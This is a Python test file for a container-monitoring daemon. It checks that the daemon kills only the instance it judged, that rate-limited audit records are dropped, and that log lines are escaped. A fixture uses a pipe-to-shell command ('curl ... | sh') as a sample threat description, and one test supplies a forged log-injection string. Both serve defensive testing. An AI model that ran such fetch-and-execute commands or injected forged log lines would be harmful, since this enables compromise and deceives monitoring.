"""The root daemon's output and kill paths (issue 16), without sockets, capture or nft.

- The delayed kill acts only on the instance it judged: the name may belong to a successor
  by the time the worker runs. It tags the instance and force-stops it, nothing more (issue
  18): the user's supervisor saves and deletes. `SessionManager.kill(expect_id=)` checks the
  instance id under the session lock, where no `coi` run can swap it any more.
- A record the audit log rate-limits is neither broadcast nor logged (a flood must not
  flood the dashboards and monitor.log instead); one the log failed to write still is; the
  description (container text) reaches monitor.log as one escaped line."""

from __future__ import annotations

import types
from pathlib import Path
from typing import Any

import pytest

from coi_tui.incus.client import Instance
from coi_tui.monitor.config import KILLED_BY_MONITOR, KILLED_KEY
from coi_tui.monitor.daemon import Daemon, Watched
from coi_tui.monitor.events import AuditLog, Threat
from coi_tui.sessions import manager as manager_module
from coi_tui.sessions.manager import SessionManager


class FakeIncus:
    """One instance under a name; records what was done to it (the user side's calls and
    the daemon's IncusSocket calls)."""

    remote = None

    def __init__(self, uuid: str) -> None:
        self.instance = Instance("coi-x-1", "Running", config={"volatile.uuid": uuid})
        self.done: list[str] = []

    def get_instance(self, name: str) -> Instance:
        return self.instance

    def instance_config(self, name: str) -> dict[str, str]:
        return self.instance.config

    def tag(self, name: str, key: str, value: str) -> None:
        self.done.append(f"tag {name} {key}={value}")

    def force_stop(self, name: str) -> None:
        self.done.append(f"stop {name}")

    def stop(self, name: str, force: bool = False, **_: Any) -> None:
        self.done.append(f"stop {name}")

    def delete_instance(self, name: str, force: bool = False) -> None:
        self.done.append(f"delete {name}")

    def instance_exists(self, name: str) -> bool:
        return False


@pytest.fixture(autouse=True)
def isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COI_HOME", str(tmp_path / "coi"))
    monkeypatch.setattr(manager_module, "run_hooks", lambda *args: None)


def daemon_with(incus: FakeIncus, said: list[str], tmp_path: Path) -> Daemon:
    daemon = Daemon.__new__(Daemon)  # no socket, capture or nft: only the kill path
    daemon.incus = incus  # type: ignore[assignment]
    daemon.home = tmp_path / "coi"
    daemon.owner = None
    daemon.log = said.append  # type: ignore[method-assign]
    return daemon


def test_the_daemon_never_kills_a_successor_that_took_the_name(tmp_path: Path) -> None:
    incus = FakeIncus("uuid-of-the-successor")
    said: list[str] = []
    daemon_with(incus, said, tmp_path).kill("coi-x-1", expect_id="uuid-of-the-judged-one")
    assert incus.done == []
    assert any("not acting" in line for line in said), said


def test_the_daemon_kills_the_container_it_judged(tmp_path: Path) -> None:
    incus = FakeIncus("uuid-1")
    daemon_with(incus, [], tmp_path).kill("coi-x-1", expect_id="uuid-1")
    # tagged first, so the supervisor that sees the stop knows it was the monitor's kill
    assert incus.done == [f"tag coi-x-1 {KILLED_KEY}={KILLED_BY_MONITOR}", "stop coi-x-1"]


def test_kill_without_an_expected_id_is_unchanged(tmp_path: Path) -> None:
    incus = FakeIncus("uuid-1")
    manager = SessionManager(incus, None, say=lambda _: None)  # type: ignore[arg-type]
    assert manager.kill("coi-x-1") is True
    assert incus.done == ["stop coi-x-1", "delete coi-x-1"]
    incus.done.clear()
    assert manager.kill("coi-x-1", expect_id="other") is False
    assert incus.done == []


def emitting_daemon(tmp_path: Path, audit: AuditLog) -> tuple[Daemon, list[Any], list[str]]:
    published: list[Any] = []
    said: list[str] = []
    daemon = Daemon.__new__(Daemon)
    daemon.audit = audit
    daemon.broadcaster = types.SimpleNamespace(publish=published.append)  # type: ignore
    daemon.log = said.append  # type: ignore[method-assign]
    return daemon, published, said


def a_record(description: str = "curl http://x | sh") -> dict[str, Any]:
    threat = Threat("exec.pipe-shell", "high", "process", "Pipe to shell", description, {})
    return threat.record("alerted")


def test_rate_limited_records_are_neither_broadcast_nor_logged(tmp_path: Path) -> None:
    audit = AuditLog(tmp_path / "coi", burst=2, refill_sec=3600.0)
    daemon, published, said = emitting_daemon(tmp_path, audit)
    watched = Watched("coi-x-1", 1, "pid:[1]", "", "", 0, tmp_path / "coi")
    for _ in range(5):
        daemon.emit(watched, a_record())
    assert len(published) == 2 and len(said) == 2
    lines = (tmp_path / "coi" / "audit" / "coi-x-1.jsonl").read_text().splitlines()
    assert len(lines) == 2 and audit.buckets[("coi-x-1", "exec.pipe-shell", "high")].dropped == 3


def test_a_record_the_audit_log_failed_to_write_is_still_broadcast(tmp_path: Path) -> None:
    (tmp_path / "coi").mkdir()
    (tmp_path / "coi" / "audit").write_text("not a directory")
    audit = AuditLog(tmp_path / "coi")
    daemon, published, said = emitting_daemon(tmp_path, audit)
    daemon.emit(Watched("coi-x-1", 1, "pid:[1]", "", "", 0, tmp_path), a_record())
    assert len(published) == 1 and audit.failures == 1
    assert len(said) == 1 and "exec.pipe-shell" in said[0]  # and logged


def test_the_description_reaches_monitor_log_as_one_escaped_line(tmp_path: Path) -> None:
    daemon, _published, said = emitting_daemon(tmp_path, AuditLog(tmp_path / "coi"))
    forged = "x\n2026-12-06T00:00:00 monitor stopped\x1b[2J"
    daemon.emit(Watched("coi-x-1", 1, "pid:[1]", "", "", 0, tmp_path), a_record(forged))
    assert len(said) == 1 and "\n" not in said[0] and "\x1b" not in said[0]


@pytest.mark.parametrize(("tag", "outcome"), [("", "kept"), (KILLED_BY_MONITOR, "removed")])
def test_the_supervisor_deletes_a_persistent_container_the_monitor_killed(
    tag: str, outcome: str
) -> None:
    """The daemon only stops; finalize_if_stopped (the supervisor's and the attached shell's,
    as the user) saves, then keeps a stopped persistent container unless the monitor killed
    it: that one is deleted, as the old in-daemon kill did."""
    incus = FakeIncus("uuid-1")
    incus.instance.status = "Stopped"
    incus.instance.config["user.coi.persistent"] = "true"
    if tag:
        incus.instance.config[KILLED_KEY] = tag
    manager = SessionManager(incus, None, say=lambda _: None)  # type: ignore[arg-type]
    assert manager.finalize_if_stopped("coi-x-1") == outcome
    assert incus.done == (["delete coi-x-1"] if tag else [])
